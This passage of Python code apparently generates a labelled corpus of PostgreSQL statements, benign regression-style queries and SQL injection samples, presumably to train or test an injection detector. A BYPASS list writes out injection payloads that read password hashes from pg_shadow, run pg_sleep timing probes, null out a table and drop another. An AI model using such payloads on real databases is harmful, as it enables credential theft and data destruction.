 ("stats_ext", "CREATE STATISTICS st12 (ndistinct, dependencies) ON four, ten FROM tenk1"), ("stats_ext", "DROP STATISTICS st12"),
 ("publication", "CREATE PUBLICATION pub12 FOR TABLE fk_parent12 (id, title) WHERE (id > 10)"), ("publication", "ALTER PUBLICATION pub12 ADD TABLE fk_child12"),
 ("publication", "DROP PUBLICATION IF EXISTS pub12"), ("subscription", "ALTER SUBSCRIPTION regress_sub12 SET (disable_on_error = true)"),
 ("event_trigger", "CREATE EVENT TRIGGER evt12 ON sql_drop EXECUTE FUNCTION evt_log12()"), ("foreign_key", "ALTER TABLE fk_child12 ADD CONSTRAINT fk12 FOREIGN KEY (n) REFERENCES fk_parent12 (id) ON DELETE SET NULL (n) NOT VALID"),
 ("vacuum", "VACUUM (FREEZE, PARALLEL 2) tenk1"), ("vacuum", "VACUUM (BUFFER_USAGE_LIMIT '256kB') onek"), ("vacuum", "ANALYZE tenk1 (four, ten)"),
 ("cluster", "CLUSTER VERBOSE"), ("reindex_catalog", "REINDEX (VERBOSE) TABLE pg_class"), ("lock", "LOCK TABLE fk_parent12, fk_child12 IN ROW EXCLUSIVE MODE"),
 ("namespace", "CREATE SCHEMA IF NOT EXISTS ns12 AUTHORIZATION CURRENT_ROLE"), ("namespace", "ALTER SCHEMA ns12 RENAME TO ns12b"), ("namespace", "DROP SCHEMA ns12b CASCADE"),
 ("temp", "CREATE TEMP TABLE tt12 (a int) ON COMMIT DROP"), ("inherit", "CREATE TABLE inh_child12 (extra int) INHERITS (fk_parent12)"), ("inherit", "SELECT * FROM ONLY fk_parent12"),
 ("typed_table", "CREATE TABLE typed12 OF comp12 (PRIMARY KEY (x))"), ("conversion", "SELECT convert_to('grüße', 'LATIN1'), convert_from('\\x677275c39f65'::bytea, 'UTF8')"),
 ("plpgsql", "CREATE FUNCTION fib12(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF n < 2 THEN RETURN n; END IF; RETURN fib12(n - 1) + fib12(n - 2); END $$"),
 ("plpgsql", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 AS x LOOP RAISE NOTICE 'x = %', r.x; END LOOP; END $$"),
 ("plpgsql", "CREATE FUNCTION exc12() RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM 1 / 0; RETURN 'no'; EXCEPTION WHEN division_by_zero THEN RETURN 'caught'; END $$"),
 ("guc", "SET LOCAL work_mem = '8MB'"), ("guc", "SET search_path = ns12, public"), ("guc", "SHOW search_path"), ("guc", "RESET ALL"), ("guc", "SET extra_float_digits = 3"),
 ("explain", "EXPLAIN (COSTS OFF, VERBOSE) SELECT * FROM int4_tbl12 WHERE f1 > 0"), ("explain", "EXPLAIN (FORMAT json, COSTS OFF) SELECT 1"),
 ("errors", "SELECT 'abc'::int"), ("errors", "SELECT * FROM nonesuch12"), ("errors", "CREATE TABLE fk_parent12 (x int)"), ("errors", "SELECT 1 / 0.0"),
 ("largeobject", "SELECT lo_creat(-1) IS NOT NULL"), ("largeobject", "SELECT lo_unlink(lo_create(0))"), ("listen_notify", "LISTEN chan12"), ("listen_notify", "NOTIFY chan12, 'payload 12'"),
 ("comments", "COMMENT ON TABLE fk_parent12 IS 'parent table (regression)'"), ("security_label", "SECURITY LABEL FOR dummy ON TABLE fk_parent12 IS 'classified'"),
 ("drop_if_exists", "DROP TABLE IF EXISTS fk_child12, fk_parent12 CASCADE"), ("drop_if_exists", "DROP FUNCTION IF EXISTS add12(int, int)"), ("drop_if_exists", "DROP VIEW IF EXISTS v_parent12, nums12"),
]


def regress_rows(r):
    out, add = regress_list("regress12", REGRESS_FIXED)
    for typ, vals in [("int2", ["'32767'", "'-32768'", "'  12'"]), ("int4", ["'-2147483648'", "' 007'"]), ("int8", ["'9223372036854775807'", "'+4'"]),
                      ("float4", ["'3.4028235e38'", "'Infinity'"]), ("float8", ["'1.7976931348623157e308'", "'-0'"]), ("numeric", ["'0.000000000000000001'", "'Infinity'"]),
                      ("date", ["'2025-12-31'", "'Dec 31, 2025'", "'20251231'", "'epoch'"]), ("time", ["'allballs'", "'23:59:60'", "'1:02 pm'"]),
                      ("timestamp", ["'2025-01-01 00:00:00.123456'", "'today'"]), ("timestamptz", ["'2025-06-01 12:00 Europe/Paris'", "'J2451187 04:05-08:00'"]),
                      ("interval", ["'4 hours 3 minutes'", "'1 year -1 day'", "'@ 1 minute ago'"]), ("inet", ["'2001:db8::1/64'", "'10.0.0.1'"]), ("cidr", ["'10/8'", "'fe80::/10'"]),
                      ("macaddr", ["'0800.2b01.0203'", "'08-00-2b-01-02-03'"]), ("uuid", ["'A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11'"]), ("bytea", ["'\\000\\377'", "'\\xdeadbeef'"]),
                      ("jsonb", ["'{\"nested\": {\"arr\": [true, null]}}'", "'\"s\"'"]), ("tsvector", ["'supernovae stars'", "'a:1A b:2B'"]), ("tsquery", ["'super:*'", "'a <2> b'"]),
                      ("point", ["'(1.5, -2)'"]), ("lseg", ["'((0,0),(1,1))'"]), ("circle", ["'<(1,2),3>'"]), ("numrange", ["'[1.5,2.5]'", "'(,)'"]), ("daterange", ["'[2025-01-01,)'"]),
                      ("bit(4)", ["'1001'"]), ("regclass", ["'pg_class'"]), ("regnamespace", ["'pg_catalog'"]), ("pg_lsn", ["'16/B374D848'"]), ("money", ["'$1,000.00'"])]:
        for v in vals:
            add(typ.split("(")[0], "SELECT %s::%s" % (v, typ))
            if r.random() < 0.35 and "(" not in typ:
                add(typ, "SELECT CAST(%s AS %s)" % (v, typ))
    for _ in range(30):
        a, b = r.randint(-50000, 50000), r.randint(1, 700)
        t = r.choice(["int2", "int4", "int8", "numeric", "float4", "float8"])
        add(t, "SELECT %d::%s %s %d::%s AS r" % (a % 32000 if t == "int2" else a, t, r.choice(["+", "-", "*", "/", "%", "<=", ">", "=", "<>"]), b, t))
    for _ in range(25):
        s = r.choice(["glacier survey", "Ærøskøbing", "x-y-z", "Regression", "tugboat", "ÅÄÖ åäö"])
        add("strings", r.choice(["SELECT lpad('%s', %d, '*')" % (s, r.randint(1, 30)), "SELECT substr('%s', %d, %d)" % (s, r.randint(-2, 6), r.randint(0, 8)),
                                 "SELECT strpos('%s', '%s')" % (s, s[r.randint(0, 3):][:2]), "SELECT initcap('%s'), upper('%s')" % (s, s),
                                 "SELECT repeat('%s', %d)" % (s[:3], r.randint(0, 4)), "SELECT replace('%s', '%s', '_')" % (s, s[1:2] or "x"), "SELECT ascii('%s'), chr(%d)" % (s, r.randint(65, 122))]))
    for _ in range(25):
        add("horology", r.choice(["SELECT date '%s' - date '%s'" % (rdate(r), rdate(r)), "SELECT timestamp '%s 10:11:12' - interval '%d hours'" % (rdate(r), r.randint(1, 100)),
                                  "SELECT extract(%s FROM timestamp '%s 08:09:10')" % (r.choice(["isoyear", "week", "doy", "quarter", "julian"]), rdate(r)),
                                  "SELECT to_char(date '%s', '%s')" % (rdate(r), r.choice(["IYYY-IW-ID", "FMDay, DDth FMMonth", "YYYY\"年\"MM\"月\"", "Q", "CC"])),
                                  "SELECT date_trunc('%s', timestamptz '%s 12:34:56+00', 'Asia/Tokyo')" % (r.choice(["day", "month", "week"]), rdate(r))]))
    for _ in range(15):
        add("select", "SELECT unique1, ten, hundred FROM tenk1 WHERE %s ORDER BY %s LIMIT %d" % (
            r.choice(["ten = %d" % r.randint(0, 9), "hundred BETWEEN %d AND %d" % (r.randint(0, 40), r.randint(41, 99)), "stringu1 < '%s'" % rword(r, 3, True), "odd <> %d" % r.randint(0, 99)]),
            r.choice(["unique1", "ten DESC, unique1", "hundred NULLS FIRST"]), r.randint(1, 20)))
    for _ in range(12):
        add("arrays", r.choice(["SELECT (ARRAY[%s])[%d]" % (", ".join(str(r.randint(0, 50)) for _ in range(5)), r.randint(1, 5)),
                                "SELECT array_append(ARRAY[%d], %d), array_cat(ARRAY[%d], ARRAY[%d, %d])" % tuple(r.randint(0, 9) for _ in range(5)),
                                "SELECT %d = ANY (ARRAY[%d, %d, %d])" % tuple(r.randint(0, 5) for _ in range(4))]))
    for _ in range(10):
        lo, hi = sorted(r.sample(range(0, 200), 2))
        add("rangetypes", r.choice(["SELECT int4range(%d, %d) + int4range(%d, %d)" % (lo, hi, hi - 1, hi + r.randint(1, 50)), "SELECT upper(int8range(%d, %d, '[]'))" % (lo, hi),
                                    "SELECT tsrange('2025-0%d-01', '2025-0%d-15') @> timestamp '2025-0%d-05'" % ((lambda m: (m, m, m))(r.randint(1, 9)))]))
    for _ in range(8):
        add("window", "SELECT four, ten, %s OVER (PARTITION BY ten ORDER BY four %s) FROM tenk1 WHERE unique1 < %d" % (
            r.choice(["min(four)", "count(*)", "rank()", "sum(four)"]), r.choice(["ROWS 1 PRECEDING", "RANGE UNBOUNDED PRECEDING", "GROUPS BETWEEN CURRENT ROW AND 1 FOLLOWING"]), r.randint(5, 50)))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "sqlmap"]
# the application escapes quotes the wrong way for its literal
BYPASS = [("std_string_addslashes", "t12_pdo_fencer_search", "b", "Brixton' OR 1=1 -- ", addslashes),
          ("std_string_addslashes", "t12_pdo_callouts", "b", "euro cylinder' UNION SELECT usename, passwd, NULL FROM pg_shadow -- ", addslashes),
          ("e_string_quote_doubling", "t12_efcore_formula_note", "a", "\\'; UPDATE \"Formulas\" SET \"Notes\" = NULL; -- ", double_quotes),
          ("std_string_addslashes", "t12_pdo_key_blanks", "a", "UL050' AND 1=(SELECT 1 FROM pg_sleep(6)) -- ", addslashes),
          ("e_string_quote_doubling", "t12_efcore_formula_note", "a", "\\'; SELECT pg_sleep(7); -- ", double_quotes),
          ("std_string_addslashes", "t12_pdo_armoury_loan", "a", "MASK-L-07', 'x', current_date); DROP TABLE armoury_loans; -- ", addslashes)]


def truncation_style(r):
    """(name, comment) cutting off the rest of the statement."""
    return r.choice([("dashdash", "--"), ("dashdash_space", "-- "), ("triple_dash", "---"), ("semicolon_dashdash", ";--"),
                     ("block_open", "/*"), ("empty_block_dashdash", "/**/--"), ("nested_block_open", "/* /*"), ("dashdash_word", "-- " + rword(r, 4)),
                     ("dashdash_tab", "--\t"), ("semicolon_block_open", "; /*")])


TRUNCATION = {"style": truncation_style, "origs": ["admin", "administrator", "root", "", "staff"], "spaces": ["", "", " "], "number_types": ("n", "list", "bool")}


def numeric_value(r):
    return r.choice([str(r.randint(0, 99999)), str(r.randint(1, 100)), "%d.%d" % (r.randint(0, 999), r.randint(0, 99)),
                     "%.3f" % r.uniform(0, 50), str(r.randint(10 ** 5, 10 ** 9)), "0", "-%d" % r.randint(1, 300)])


def formatted_value(r):
    return r.choice(["%s-%04d" % (rword(r, 3, upper=True), r.randint(0, 9999)), "%012X" % r.getrandbits(48),
                     "%s%d %d%s" % (rword(r, 2, upper=True), r.randint(1, 99), r.randint(1, 9), rword(r, 2, upper=True)),
                     "+47 %03d %02d %03d" % (r.randint(0, 999), r.randint(0, 99), r.randint(0, 999)), "%032x" % r.getrandbits(128),
                     "%d.%d.%d.%d" % (r.choice([10, 172, 192]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                     "%02d.%02d.%d" % (r.randint(1, 28), r.randint(1, 12), r.randint(2019, 2027)), "VN-%d-%03d" % (r.randint(2019, 2026), r.randint(1, 999))])


def input_value(r, fam, groups):
    """(template, slot, value) of one benign input of family fam, or None."""
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ","], 9999, 7, numeric_value,
                            lambda tpl, slot, val: slot_info(tpl, slot)["in_limit"] and val.startswith("-"))
    if fam == "input_identifier":
        if r.random() < 0.3:
            tpl, slot = r.choice([(t, k) for t, k in groups.typed if kind(t, k) == "suffix"])
            return tpl, slot, typed_value(r, "suffix")[0]
        return identifier_input(r, groups.identifier, CANON)
    if fam in ("input_formatted", "input_numeric_string") and r.random() < 0.45:
        return typed_input(r, groups.typed, fam, typed_value)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.5,
                      ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words", "input_formatted"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "t12-%06d", "twelfth")


if __name__ == "__main__":
    main()
